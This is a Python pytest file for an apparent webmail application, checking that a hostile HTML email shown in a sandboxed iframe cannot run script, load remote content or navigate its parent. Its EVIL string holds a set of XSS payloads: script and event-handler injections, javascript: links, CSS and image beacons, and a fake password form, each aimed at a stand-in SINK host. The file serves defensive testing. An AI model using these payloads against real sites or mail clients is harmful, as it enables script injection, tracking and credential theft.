"""A hostile letter in a real browser: it runs nothing, asks for nothing, and leaves its frame by nothing."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from tests.web.office import Office

EVIL = """
<script>parent.document.title = 'pwned'; fetch('http://SINK/s')</script>
<img src="http://SINK/i.gif" onerror="parent.pwned=1"><img src=x onerror="top.location='http://SINK/'">
<svg onload="parent.pwned=1"><image href="http://SINK/v.svg"/></svg>
<iframe src="http://SINK/f"></iframe><object data="http://SINK/o"></object>
<link rel="stylesheet" href="http://SINK/c.css"><meta http-equiv="refresh" content="0;url=http://SINK/m">
<style>@import url(http://SINK/s.css); body { background: url(http://SINK/b.png) }</style>
<div style="background:url(http://SINK/d.png);position:fixed;inset:0">over everything</div>
<form action="http://SINK/post"><input name="password" autofocus><button id="go">Go</button></form>
<a href="javascript:parent.pwned=1" id="js">click</a><video src="http://SINK/v.mp4" autoplay></video>
<table background="http://SINK/t.png"><tr><td>cell</td></tr></table>
"""


SILENT = b"(connected without a word)"


@pytest.fixture
def sink() -> Iterator[tuple[str, list[bytes]]]:
    """A server that only counts: its address, and what reached it."""
    listener = socket.create_server(("127.0.0.1", 0))
    reached: list[bytes] = []

    def count() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    reached.append(connection.recv(200))
                except OSError:
                    reached.append(SILENT)

    threading.Thread(target=count, daemon=True).start()
    yield f"127.0.0.1:{listener.getsockname()[1]}", reached
    listener.close()


@pytest.mark.parametrize("sanitised", [True, False])
def test_nothing_of_it_works(
    sanitised: bool, office: Office, visit: Callable[..., Any], sink: tuple[str, list[bytes]]
) -> None:
    """Once as it is shown, once with the sanitiser left out: the sandbox and the policy hold alone."""
    from postern.mail.access import at_mailbox
    from postern.mail.models import Body
    from tests.web.office import letter, mixed

    place, reached = sink
    evil = EVIL.replace("SINK", place)
    head, body = mixed(("text/html; charset=utf-8", evil.encode(), ""))
    message = office.arrive("evil", letter(sender="x@evil.example", subject="Evil", headers=head, body=body))
    if not sanitised:
        with office.acting_as("sync"), at_mailbox(office.mailbox.pk):
            Body.objects.filter(pk=message.pk).update(html=evil)
    page = visit(office.marta)
    page.goto(f"/messages/inbox/{message.pk}/")
    page.wait_for_selector("iframe.letter")
    frame = page.frame_locator("iframe.letter")
    frame.locator("body").wait_for()
    page.wait_for_timeout(700)
    if not sanitised and frame.locator("#go").count():
        frame.locator("#go").dispatch_event("click")
        frame.locator("#js").dispatch_event("click")
        page.wait_for_timeout(300)
    assert page.title().startswith("Inbox") and page.url.endswith(f"/{message.pk}/")
    assert page.evaluate("window.pwned === undefined")
    # Chromium 156 opens a connection for a form before it finds that neither policy nor sandbox allows to
    # send it (November 2026). Only the sanitiser keeps that from happening, so with it not even that is there.
    assert [said for said in reached if sanitised or said != SILENT] == []
    if not sanitised:  # the browser says what it refused
        page.complaints.clear()
        page.strangers.clear()


def test_the_body_alone_is_sandboxed_too(office: Office, visit: Callable[..., Any]) -> None:
    page = visit(office.marta)
    answer = page.goto(f"/messages/{office.mail['unknown'].pk}/body/")
    assert "sandbox" in answer.headers["content-security-policy"]
    assert page.evaluate("self.origin") == "null"
